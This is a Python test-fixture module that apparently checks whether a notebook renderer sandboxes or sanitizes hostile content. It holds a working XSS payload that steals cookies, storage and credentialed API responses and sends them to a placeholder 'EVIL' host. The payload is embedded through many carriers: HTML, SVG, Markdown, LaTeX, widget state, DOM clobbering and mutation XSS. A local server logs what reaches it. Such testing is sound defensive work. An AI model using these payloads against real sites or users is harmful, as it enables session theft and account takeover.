"""Notebooks that attack whoever looks at them, and the site that waits for what they take."""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
# What every script tries: to get out, to read, to send, to go elsewhere, to open windows, to ask, to act.
# No double quotes: it goes into attributes.
ATTACK = """
try { parent.postMessage({stolen: 'ran'}, '*') } catch (e) {}
try { parent.document.body.dataset.owned = 1 } catch (e) {}
try { top.document.title = 'owned' } catch (e) {}
try { if (document.cookie) parent.postMessage({stolen: document.cookie}, '*') } catch (e) {}
try { if (localStorage.length >= 0) parent.postMessage({stolen: 'storage'}, '*') } catch (e) {}
try { fetch('VICTIMapi/v1/me?leak', {credentials: 'include'}).then(r => r.text()).then(t => parent.postMessage({stolen: t}, '*')).catch(() => 0) } catch (e) {}
try { fetch('VICTIM@ada/hostile/star?leak', {method: 'POST', mode: 'no-cors', credentials: 'include'}).catch(() => 0) } catch (e) {}
try { new Image().src = 'VICTIMme?leak' } catch (e) {}
try { import('VICTIMapi/v1/me?leak').catch(() => 0) } catch (e) {}
try { fetch('EVIL/fetch', {credentials: 'include'}).catch(() => 0) } catch (e) {}
try { new Image().src = 'EVIL/image' } catch (e) {}
try { navigator.sendBeacon('EVIL/beacon') } catch (e) {}
try { new WebSocket('ws://EVILHOST/socket') } catch (e) {}
try { window.open('EVIL/popup') } catch (e) {}
try { if (top !== self) top.location = 'EVIL/top' } catch (e) {}
try { alert(1) } catch (e) {}
try { document.body.insertAdjacentHTML('beforeend', '<form action=EVIL/form id=evilform></form>'); evilform.submit() } catch (e) {}
try { document.body.insertAdjacentHTML('beforeend', '<form action=VICTIM@ada/hostile/star?leak method=post id=act></form>'); act.submit() } catch (e) {}
try { document.body.insertAdjacentHTML('beforeend', '<iframe src=EVIL/frame></iframe><iframe src=VICTIMme?leak></iframe>') } catch (e) {}
""".replace("\n", " ")  # noqa: E501


@dataclass
class Evil:
    """A site that counts what reaches it, and serves the page that embeds."""

    url: str
    seen: list[str] = field(default_factory=list)
    pages: dict[str, str] = field(default_factory=dict)


@contextmanager
def evil_site() -> Iterator[Evil]:
    """It, on a host of its own."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = state.pages.get(self.path)
            if page is None and self.path != "/favicon.ico":
                state.seen.append(f"{self.path} {self.headers.get('Cookie', '')}")
            self.send_response(200 if page else 204)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write((page or "").encode())

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state = Evil(f"http://evil.localhost:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield state
    server.shutdown()
    server.server_close()
    thread.join()


def output(**data):
    return {"output_type": "display_data", "data": data, "metadata": {}}


def html(text):
    return output(**{"text/html": text})


def notebook(*outputs, markdown="", **metadata):
    cells = [
        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": markdown},
        {
            "cell_type": "code",
            "id": "c",
            "metadata": {},
            "source": "x",
            "outputs": list(outputs),
            "execution_count": 1,
        },
        {"cell_type": "markdown", "id": "end", "metadata": {}, "source": "THE END"},
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}


SCRIPT = f"<script>{ATTACK}</script>"
HANDLER = f'<img src=x onerror="{ATTACK}"><svg onload="{ATTACK}"></svg><p onclick="{ATTACK}">x</p>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{ATTACK}">{SCRIPT}</svg>'
SVG_URL = f"data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}"
WRITTEN = json.dumps(SCRIPT).replace("</", "<\\/")
STATE = {"version_major": 2, "version_minor": 0, "state": {"w": {"model_name": f"</script>{SCRIPT}"}}}
WIDGET = output(**{"application/vnd.jupyter.widget-view+json": {"model_id": "w"}})


def picture(data=PNG, **metadata):
    return {"output_type": "display_data", "data": {"image/png": data}, "metadata": {"image/png": metadata}}


# Scripts may run in these: inside the sandbox, where they reach nothing.
RUNNING = {
    "script in HTML": notebook(html(SCRIPT)),
    "handlers in HTML": notebook(html(HANDLER)),
    "JavaScript": notebook(output(**{"application/javascript": ATTACK})),
    "frames in HTML": notebook(html(f'<iframe srcdoc="{SCRIPT}"></iframe>' + HANDLER)),
    "detached button": notebook(
        html(
            f'<form id=f action="EVIL"></form><button form=f id=b></button><script>b.click()</script>{SCRIPT}'
        )
    ),
    "clobbered document": notebook(
        html(f"<img name=querySelectorAll><form name=body></form><form id=main name=head></form>{SCRIPT}")
    ),
    "broken out of its place": notebook(html(f"</div></section></main></body></html>{SCRIPT}")),
    "document.write": notebook(html(f"<script>document.write({WRITTEN})</script>")),
    "links": notebook(
        html(
            f'<a id=l target=_top href="EVIL/link">x</a><script>if (top !== self) l.click()</script>{SCRIPT}'
        )
    ),
    "refresh": notebook(html(f'<meta http-equiv=refresh content="0;url=EVIL/refresh">{SCRIPT}')),
    "base": notebook(html(f'<base href="EVIL/"><script src="x.js"></script>{SCRIPT}')),
}
# No script may run in these at all.
INERT = {
    "script in Markdown": notebook(markdown=SCRIPT),
    "handlers in Markdown": notebook(markdown=HANDLER),
    "drawing in Markdown": notebook(markdown=SVG + f'<svg><use href="data:image/svg+xml,{SVG}#x"/></svg>'),
    "javascript link": notebook(markdown=f'[x](javascript:{ATTACK}) <a href="jav&#97;script:{ATTACK}">y</a>'),
    "srcdoc in Markdown": notebook(markdown=f'<iframe srcdoc="{SCRIPT}"></iframe>'),
    "SVG": notebook(output(**{"image/svg+xml": SVG})),
    "picture's size": notebook(picture(width=f'1 onload="{ATTACK}"', height=f'">{SCRIPT}')),
    "picture's data": notebook(picture(f'{PNG}" onload="{ATTACK}')),
    "picture's alt": notebook(picture(alt=f'">{SCRIPT}')),
    "attachment": notebook(markdown=f'![x](attachment:a) ![y]({SVG_URL}) <img src="{SVG_URL}">'),
    "diagram": notebook(
        output(**{"text/vnd.mermaid": f"graph TD\n{HANDLER}"}), markdown=f"```mermaid\n{HANDLER}\n```"
    ),
    "LaTeX": notebook(output(**{"text/latex": rf"$\href{{javascript:{ATTACK}}}{{x}}\unicode{{{SCRIPT}}}$"})),
    "formula": notebook(markdown=rf"$\text{{{SCRIPT}}}$ $$\htmlData{{x={ATTACK}}}{{y}}$$"),
    "widget state": notebook(WIDGET, widgets={"application/vnd.jupyter.widget-state+json": STATE}),
    "error": notebook(
        {"output_type": "error", "ename": SCRIPT, "evalue": HANDLER}
        | {"traceback": [f"\x1b[31m{SCRIPT}\x1b[38;5;1m{HANDLER}"]}
    ),
    "stream": notebook({"output_type": "stream", "name": "stdout", "text": f"\x1b[1m{SCRIPT}"}),
    "title and kernel": notebook(
        markdown=f"# </title>{SCRIPT}",
        kernelspec={"name": SCRIPT, "display_name": HANDLER, "language": f'">{SCRIPT}'},
    ),
    "mutation": notebook(
        markdown=f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{HANDLER}">'
    ),
    "vdom": notebook(output(**{"application/vdom.v1+json": {"tagName": "script", "children": ATTACK}})),
    "JSON": notebook(output(**{"application/json": {SCRIPT: HANDLER}})),
}


def armed(book: dict[str, Any], evil: Evil, victim: str) -> dict[str, Any]:
    """The notebook, with the addresses of who attacks, and of who is attacked."""
    text = json.dumps(book).replace("EVILHOST", evil.url.removeprefix("http://")).replace("EVIL", evil.url)
    return json.loads(text.replace("VICTIM", victim))


def merged(books: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """All of them in one notebook."""
    whole = notebook()
    cells = [
        cell | {"id": f"{cell['id']}{n}"}
        for n, book in enumerate(books.values())
        for cell in book["cells"][:-1]
    ]
    whole["cells"] = [*cells, whole["cells"][-1]]
    for book in books.values():
        whole["metadata"] |= book["metadata"]
    return whole
